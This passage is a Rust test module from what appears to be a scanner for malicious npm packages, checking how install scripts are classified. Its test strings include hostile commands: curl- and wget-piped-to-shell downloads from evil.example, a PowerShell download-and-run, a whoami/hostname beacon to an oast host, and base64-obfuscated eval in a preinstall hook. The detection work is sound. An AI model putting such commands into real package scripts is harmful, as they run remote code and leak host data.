        serde_json::to_vec_pretty(&manifest).unwrap_or_default()
    }
}

#[cfg(test)]
mod tests {
    use super::testing::*;
    use super::*;
    use crate::ScanOptions;

    #[test]
    fn inline_node_code_is_read_like_a_file_run_on_install() {
        let manifest = manifest_with_scripts(&[
            (
                "preinstall",
                "node -e \"eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk=','base64').toString())\"",
            ),
            ("test", "node -e \"console.log(1)\""),
        ]);
        let contents = contents(&[("package.json", &manifest)], Vec::new());
        let options = ScanOptions::default();
        let package = crate::rules::package_facts(&contents, &options);
        let inline: Vec<&str> = package
            .files
            .iter()
            .map(|f| f.path.as_str())
            .filter(|p| p.starts_with("package.json#"))
            .collect();
        // Only lifecycle scripts: `test` never runs on install.
        assert_eq!(inline, ["package.json#preinstall"]);
        let file = package
            .files
            .iter()
            .find(|f| f.path == "package.json#preinstall")
            .expect("the inline preinstall code is a virtual file");
        assert!(file.parsed, "{:?}", file.parse_error);
        assert!(file.calls.iter().any(|c| c.callee == "eval"), "{:?}", file.calls);
        assert_eq!(install_entry_files(&package), ["package.json#preinstall"]);
        // The whole scan reads the decoded payload and calls the package malicious.
        let result = crate::scan_package(&contents, &options);
        assert_eq!(
            result.verdict,
            palisade_core::Verdict::Malicious,
            "{:#?}",
            result.findings
        );
        assert!(
            result
                .findings
                .iter()
                .any(|f| f.file.as_deref() == Some("package.json#preinstall")),
            "{:#?}",
            result.findings
        );
    }

    fn actions(command: &str, files: &[(&str, &[u8])]) -> Vec<Action> {
        let manifest = manifest_with_scripts(&[("postinstall", command)]);
        let mut all: Vec<(&str, &[u8])> = vec![("package.json", &manifest)];
        all.extend_from_slice(files);
        let contents = contents(&all, Vec::new());
        let options = ScanOptions::default();
        let package = crate::rules::package_facts(&contents, &options);
        lifecycle_scripts(&package)
            .into_iter()
            .flat_map(|s| s.actions)
            .collect()
    }

    #[test]
    fn package_installs_from_lifecycle_scripts() {
        let remote = actions(
            "npm install -g https://files.example-cdn.net/tools/helper-2.1.0.tgz --silent",
            &[],
        );
        assert!(
            matches!(remote.as_slice(), [Action::Download { executes: true, .. }]),
            "{remote:#?}"
        );
        let github = actions("npm i github:owner/tool#v1", &[]);
        assert!(
            matches!(github.as_slice(), [Action::Download { executes: false, .. }]),
            "{github:#?}"
        );
        let global = actions("yarn global add left-pad-cli", &[]);
        assert!(
            matches!(global.as_slice(), [Action::Persists { critical: false, .. }]),
            "{global:#?}"
        );
        // Installing the package's own dependencies, or a local registry package, is routine.
        for command in [
            "npm install",
            "npm ci",
            "pnpm install --frozen-lockfile",
            "npm install --no-save esbuild@0.21.0",
        ] {
            assert!(
                actions(command, &[]).is_empty(),
                "{command}: {:#?}",
                actions(command, &[])
            );
        }
    }

    #[test]
    fn lists_every_lifecycle_script_with_its_line() {
        let manifest = manifest_with_scripts(&[
            ("postinstall", "node-gyp rebuild"),
            ("test", "jest"),
            ("preinstall", "node x.js"),
        ]);
        let findings = run(&InstallScript, &[("package.json", &manifest)]);
        assert_eq!(findings.len(), 2);
        assert!(findings.iter().all(|f| f.severity == Severity::Low));
        assert!(findings[0].message.contains("`preinstall` script runs `node x.js`"));
        assert!(findings[0].line.is_some());
    }

    #[test]
    fn no_scripts_no_finding() {
        let manifest = manifest_with_scripts(&[("test", "jest"), ("build", "tsc")]);
        assert!(run(&InstallScript, &[("package.json", &manifest)]).is_empty());
        assert!(run(&InstallScript, &[("index.js", b"1")]).is_empty());
    }

    #[test]
    fn trivial_commands_do_nothing_notable() {
        for command in [
            "node-gyp rebuild",
            "husky install",
            "patch-package",
            "tsc",
            "echo done",
            "opencollective postinstall || exit 0",
            "prebuild-install || node-gyp rebuild",
            "npm run build",
            "is-ci || husky install",
            "cross-env NODE_ENV=production npm run build",
        ] {
            assert_eq!(actions(command, &[]), [], "{command}");
        }
    }

    #[test]
    fn classifies_downloads() {
        let found = actions("curl -sL https://evil.example/x.sh | bash", &[]);
        assert!(
            matches!(&found[..], [Action::Download { executes: true, .. }]),
            "{found:?}"
        );
        let found = actions(
            "wget https://evil.example/payload -O /tmp/p && chmod +x /tmp/p && /tmp/p",
            &[],
        );
        assert!(
            matches!(&found[..], [Action::Download { executes: true, .. }]),
            "{found:?}"
        );
        let found = actions("curl -fsSL https://bun.sh/install -o i.sh", &[]);
        assert!(
            matches!(
                &found[..],
                [Action::Download {
                    executes: false,
                    sends_host_data: false,
                    ..
                }]
            ),
            "{found:?}"
        );
        let found = actions("curl -o run.sh https://e.example/run.sh; sh run.sh", &[]);
        assert!(
            matches!(&found[..], [Action::Download { executes: true, .. }]),
            "{found:?}"
        );
        for command in [
            "sh -c \"$(curl -fsSL https://e.example/i.sh)\"",
            "node -e \"$(wget -qO- http://e/p.js)\"",
            "eval `curl -s http://e/x`",
        ] {
            let found = actions(command, &[]);
            assert!(
                matches!(&found[..], [Action::Download { executes: true, .. }]),
                "{command}: {found:?}"
            );
        }
        let found = actions("curl https://x.oast.fun/$(whoami)/$(hostname)", &[]);
        assert!(
            matches!(
                &found[..],
                [Action::Download {
                    executes: false,
                    sends_host_data: true,
                    ..
                }]
            ),
            "{found:?}"
        );
        let found = actions(
            "powershell -c \"iex (New-Object Net.WebClient).DownloadString('http://e/x')\"",
            &[],
        );
        assert!(
            matches!(&found[..], [Action::Download { executes: true, .. }]),
            "{found:?}"
        );
    }

    #[test]
    fn classifies_files_inline_code_and_binaries() {
        let found = actions("node install", &[("install.js", b"1")]);
        assert_eq!(
            found,
            [Action::RunsFile {
                interpreter: "node".into(),
                path: "install.js".into(),
                present: true
            }]
        );
        let found = actions("cd scripts && node ./setup.js", &[("scripts/setup.js", b"1")]);
        assert_eq!(
            found,
            [Action::RunsFile {
                interpreter: "node".into(),
                path: "scripts/setup.js".into(),
                present: true
            }]
        );
        let found = actions("start /B node compile.js & node compile.js", &[("compile.js", b"1")]);
        assert!(
            matches!(&found[..], [Action::RunsFile { present: true, .. }]),
            "{found:?}"
        );
        let found = actions(
            "node -e \"try{require('./postinstall')}catch(e){}\"",
            &[("postinstall.js", b"1")],
        );
        assert_eq!(
            found,
            [Action::RunsFile {
                interpreter: "node".into(),
                path: "postinstall.js".into(),
                present: true
            }]
        );
        let found = actions("node -e \"require('child_process').exec('id')\"", &[]);
        assert!(
            matches!(
                &found[..],
                [Action::InlineCode {
                    risky: true,
                    network: false,
                    ..
                }]
            ),
            "{found:?}"
        );
        let found = actions("sh -c 'curl http://e/x | sh'", &[]);
        assert!(
            matches!(&found[..], [Action::Download { executes: true, .. }]),
            "{found:?}"
        );
        let found = actions("echo Y3VybCBldmls | base64 -d | sh", &[]);
        assert!(
            matches!(&found[..], [Action::InlineCode { risky: true, .. }]),
            "{found:?}"
        );
        let found = actions("powershell -NoP -enc SQBFAFgA", &[]);
        assert!(matches!(&found[..], [Action::Binary { .. }]), "{found:?}");
        let found = actions(
            "./bin/helper --init",
            &[("bin/helper", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\xff")],
        );
        assert!(matches!(&found[..], [Action::Binary { .. }]), "{found:?}");
        let found = actions("rundll32 lib.dll,Start", &[]);
        assert!(matches!(&found[..], [Action::Binary { .. }]), "{found:?}");
    }

    #[test]
    fn entry_files_for_scoring() {
        let manifest =
            manifest_with_scripts(&[("preinstall", "node setup_bun.js"), ("postinstall", "node missing.js")]);
        let contents = contents(&[("package.json", &manifest), ("setup_bun.js", b"1")], Vec::new());
        let options = ScanOptions::default();
        let package = crate::rules::package_facts(&contents, &options);
        assert_eq!(install_entry_files(&package), ["setup_bun.js"]);
    }

    #[test]
    fn tokenizer_handles_quotes_and_separators() {
        let segments = split_segments("A=1 node -e \"a && b\" && x | y; z");
        let words: Vec<Vec<String>> = segments.iter().map(|s| s.words.clone()).collect();
        assert_eq!(
            words,
            [vec!["A=1", "node", "-e", "a && b"], vec!["x"], vec!["y"], vec!["z"]]
        );
        assert!(segments[2].piped && !segments[1].piped && !segments[3].piped);
    }
}
